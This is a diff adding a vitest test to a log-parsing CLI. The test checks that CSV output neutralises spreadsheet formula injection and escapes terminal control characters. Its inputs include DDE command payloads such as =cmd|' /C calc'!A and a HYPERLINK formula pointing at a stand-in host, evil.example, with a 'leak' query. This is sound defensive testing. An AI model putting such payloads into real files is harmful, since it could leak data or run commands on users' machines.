@@ -4,7 +4,9 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { describe, expect, it } from "vitest";
+import { csvRows } from "../../src/parsers/csv.js";
 import { testScript } from "../helpers/cli.js";
+import { rawControls } from "../helpers/terminal.js";
 
 /** The fixture's build when this run made one (`testScript`): through tsx each run compiled every module. */
 const ENTRY = testScript(new URL("./fixtures/parse-cli-entry.ts", import.meta.url));
@@ -60,6 +62,42 @@ describe("logwarden parse", () => {
       expect(rows.map((x) => x.lineId)).toEqual([1, 2, 3, 4]);
       expect(rows[2]!.template).toBe("");
     }
+  });
+
+  it("writes no live formula cell and no raw control character into the CSV; json keeps templates exactly", () => {
+    const lines = [
+      '=HYPERLINK("http://evil.example/?leak","click")',
+      "=cmd|' /C calc'!A",
+      "@SUM(A:A)*cmd|' /C calc'!A",
+      "+cmd|' /C calc'!A",
+      "-cmd|' /C calc'!A",
+      "plain line with = inside",
+      "bell \u0007 and \u001b]0;title\u0007 here",
+    ];
+    const input = `${lines.join("\n")}\n`;
+    const json = run(["-", "--content-only", "--format", "json"], input);
+    expect(json.status, json.stderr).toBe(0);
+    const mined = (JSON.parse(json.stdout) as { template: string }[]).map((m) => m.template);
+    // json: the templates exactly as mined (the link's address masked, control characters kept).
+    expect(mined).toEqual([
+      '=HYPERLINK("http://<*>")',
+      ...lines.slice(1, 6),
+      "bell \u0007 and \u001b]<*>;title\u0007 here",
+    ]);
+
+    const csv = run(["-", "--content-only"], input);
+    expect(csv.status, csv.stderr).toBe(0);
+    expect(rawControls(csv.stdout)).toEqual([]);
+    const cells = csvRows(csv.stdout)
+      .slice(1)
+      .map((r) => r[2]!);
+    expect(cells).toEqual([
+      ...mined.slice(0, 5).map((t) => `'${t}`),
+      "plain line with = inside",
+      "bell \\x07 and \\x1b]<*>;title\\x07 here",
+    ]);
+    // A cell with a quote is quoted as RFC 4180 says, the neutralising quote inside.
+    expect(csv.stdout.split("\n")[1]).toMatch(/^1,[0-9a-f]{16},"'=HYPERLINK\(""http:\/\/<\*>""\)"$/);
   });
 
   it("fails with one line on stderr and exit code 1 for an unreadable path", () => {
